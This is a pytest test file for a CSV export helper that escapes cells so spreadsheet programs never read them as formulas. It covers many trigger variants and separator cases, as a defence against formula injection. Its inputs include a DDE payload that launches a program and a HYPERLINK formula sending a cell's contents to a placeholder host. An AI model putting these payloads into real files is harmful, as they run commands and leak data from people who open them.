"""Cells of an exported list: no spreadsheet program interprets a text as a formula."""

import re

import pytest

from volumes.lists.csv_export import plain

FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "\rtext",
    "  =1",
    " \t@x",
    "\xa0=1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " ＝1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.test/?"&A1)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_it_keeps_every_text_from_being_a_formula(text: str) -> None:
    assert plain(text).startswith("'")
    assert plain(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["x;=1", "x; \t=1", "x\n=1", 'x;"=1"', "x\r\n＝1", "x\t-1"])
def test_it_keeps_what_follows_a_separator_from_being_a_formula(text: str) -> None:
    """In many languages, Excel splits at semicolons, even inside quotes."""
    assert re.search(r"[;\t\r\n]'", plain(text))


@pytest.mark.parametrize("text", ["", "data", "a=1", "a-b+c@d", "Ёлка №1", "10", "a, -1", "x;y", "<b>", "'", " a"])
def test_it_leaves_other_texts_as_they_are(text: str) -> None:
    assert plain(text) == text
